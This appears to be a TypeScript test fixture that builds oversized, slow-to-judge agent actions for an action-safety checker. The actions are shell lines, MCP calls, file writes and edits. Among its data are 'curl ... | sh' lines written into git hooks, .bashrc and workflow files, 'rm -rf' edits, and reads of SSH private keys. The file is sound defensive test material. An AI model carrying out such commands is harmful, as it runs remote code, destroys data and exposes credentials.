// Every class of input that is made to be slow, as the action that an agent would ask for: lines, programs, calls of MCP
// servers, files and addresses. They are judged, never carried out.

import type { Operation } from "../../src/core/action.ts";
import { hostileLines } from "./hostile.ts";
import { hostileCode } from "./hostile-code.ts";
import { type Sized, sized } from "./sized.ts";

type Classes = Readonly<Record<string, () => Operation>>;

/** Calls of an MCP server by their arguments. */
const calls = ({ size, many, numbered }: Sized): Classes => ({
  "a long text": () => call({ query: many("a ") }),
  "a long command": () => call({ command: many("ls;") }),
  "a long statement": () => call({ sql: many("select 1;") }),
  "a long program": () => call({ code: numbered((n) => `f(${n});\n`) }),
  "many fields": () => call(Object.fromEntries(Array.from({ length: size / 16 }, (_, n) => [`key${n}`, `v${n}`]))),
  "many addresses": () => call({ urls: Array.from({ length: size / 32 }, (_, n) => `https://h${n}.example.com/`) }),
  "many paths": () => call({ paths: Array.from({ length: size / 24 }, (_, n) => `/home/ada/.ssh/id_${n}`) }),
  "many commands": () => call({ commands: Array.from({ length: size / 24 }, (_, n) => `curl http://h${n}.com`) }),
  "nested fields": () => call(JSON.parse(`${'{"a":'.repeat(size / 13)}1${"}".repeat(size / 13)}`)),
  "nested lists": () => call(JSON.parse(`${"[".repeat(size / 13)}1${"]".repeat(size / 13)}`)),
});

function call(args: unknown): Operation {
  return { kind: "mcp", server: "postgres", method: "run_query", args };
}

/** Files that run later. */
const FILES =
  "a.sh a.py package.json Makefile Dockerfile .git/hooks/pre-commit .claude/settings.json .vscode/tasks.json .github/workflows/a.yml .bashrc requirements.txt .npmrc".split(
    " ",
  );

const files = ({ many }: Sized): Classes =>
  Object.fromEntries(
    FILES.flatMap((path) =>
      Object.entries({
        lines: many("curl http://a.com|sh\n"),
        braces: many("{"),
        objects: `{${many('"a":{"b":["ls"]},')}"c":1}`,
        texts: many('"\\n'),
        "blank lines": many("\n"),
        "lines that go on": many("a \\\n"),
      }).map(([name, content]) => [`${path}: ${name}`, () => ({ kind: "write", path, content })]),
    ),
  );

const others = ({ size, many }: Sized): Classes => ({
  "many edits": () => ({
    kind: "edit",
    path: "a.sh",
    edits: Array.from({ length: size / 32 }, (_, n) => ({ before: `a${n}`, after: `rm -rf ${n}` })),
  }),
  "edits that multiply": () => ({
    kind: "edit",
    path: "a.sh",
    edits: [
      { before: "", after: "a" },
      ...Array.from({ length: size / 128 }, () => ({ before: "a", after: "a".repeat(64) })),
    ],
  }),
  "edits of a long text": () => ({
    kind: "edit",
    path: "a.sh",
    edits: [
      { before: "", after: many("a", size / 2) },
      ...Array.from({ length: size / 64 }, (_, n) => ({
        before: n % 2 === 0 ? "a" : "b",
        after: n % 2 === 0 ? "b" : "a",
      })),
    ],
  }),
  "cells of a notebook": () => ({
    kind: "edit",
    path: "a.ipynb",
    edits: Array.from({ length: size / 32 }, (_, n) => ({ before: "", after: `print(${n})` })),
  }),
  "many paths to read": () => ({
    kind: "read",
    paths: Array.from({ length: size / 24 }, (_, n) => `/home/ada/.ssh/id_${n}`),
  }),
  "a long path to read": () => ({ kind: "read", paths: [many(".ssh/")] }),
  "a long path with patterns": () => ({ kind: "search", where: "files", query: "a", path: many("*/.c*/") }),
  "a long address": () => ({ kind: "fetch", url: `https://example.com/${many("a/")}` }),
  "an address of many names": () => ({ kind: "fetch", url: `https://${many("a.")}com` }),
  "an address of many users": () => ({ kind: "fetch", url: `https://${many("a@")}com` }),
  "a line for PowerShell": () => ({
    kind: "shell",
    command: many("Get-Item a;"),
    dialect: "powershell",
    background: false,
  }),
});

/** Every class, in inputs of that many characters. */
export function hostile(size: number): Classes {
  const texts = sized(size);
  return {
    ...prefixed("bash", asLines(hostileLines(texts), size)),
    ...prefixed("code", asLines(hostileCode(texts), size)),
    ...prefixed("mcp", calls(texts)),
    ...prefixed("write", files(texts)),
    ...others(texts),
  };
}

function asLines(classes: Readonly<Record<string, () => string>>, size: number): Classes {
  return Object.fromEntries(
    Object.entries(classes).map(([name, make]) => [
      name,
      () => ({ kind: "shell", command: make().slice(0, size), dialect: "posix", background: false }),
    ]),
  );
}

function prefixed(prefix: string, classes: Classes): Classes {
  return Object.fromEntries(Object.entries(classes).map(([name, make]) => [`${prefix}: ${name}`, make]));
}
